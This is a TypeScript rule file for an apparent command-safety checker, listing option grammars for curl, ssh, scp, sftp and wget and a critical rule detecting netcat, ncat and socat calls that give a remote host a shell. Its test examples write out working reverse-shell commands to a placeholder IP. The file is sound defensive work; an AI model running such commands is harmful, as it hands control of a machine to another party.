import type { Domain } from './rule.ts'

const list = (words: string) => words.split(' ')

export const network: Domain = {
  name: 'network',
  grammar: {
    curl: {
      values: list(
        '-o --output --output-dir -d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F --form --form-string -H --header -X --request -u --user -A --user-agent -e --referer -b --cookie -c --cookie-jar -x --proxy -T --upload-file -m --max-time --connect-timeout --retry --retry-delay --retry-max-time -w --write-out -K --config -E --cert --key --cacert --capath --resolve --interface -r --range -C --continue-at -D --dump-header --limit-rate --max-redirs -z --time-cond -U --proxy-user --noproxy --socks5 --unix-socket --url --oauth2-bearer -Q --quote --ciphers --tls-max --aws-sigv4 -t -y -Y',
      ),
    },
    ssh: { values: list('-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w'), posix: true },
    scp: { values: list('-c -D -F -i -J -l -o -P -S -X') },
    sftp: { values: list('-b -B -c -D -F -i -J -l -o -P -R -s -S') },
    wget: {
      values: list(
        '-O --output-document -P --directory-prefix -o --output-file -a --append-output -i --input-file -U --user-agent --header --post-data --post-file --body-data --body-file --method --user --password -t --tries -T --timeout -w --wait -A --accept -R --reject -D --domains -l --level -Q --quota -e --execute --referer --limit-rate -B --base --ca-certificate --certificate',
      ),
    },
  },
  rules: [
    {
      id: 'network/shell-away',
      program: ['nc', 'ncat', 'netcat', 'socat'],
      when: call =>
        call.program === 'socat'
          ? (call.operands.find(({ value }) => /^(exec|system|shell):/i.test(value)) ?? false)
          : call.has('-e', '-c', '--exec', '--sh-exec'),
      severity: 'critical',
      reason: 'gives a shell of this machine to another one',
      match: [
        'nc -e /bin/sh 1.2.3.4 4444',
        'ncat --exec /bin/bash 1.2.3.4 4444',
        'socat TCP:1.2.3.4:4444 EXEC:/bin/sh',
      ],
      notMatch: ['nc -zv localhost 5432', 'nc -l 8080', 'socat TCP-LISTEN:80,fork TCP:localhost:8080'],
    },
  ],
}
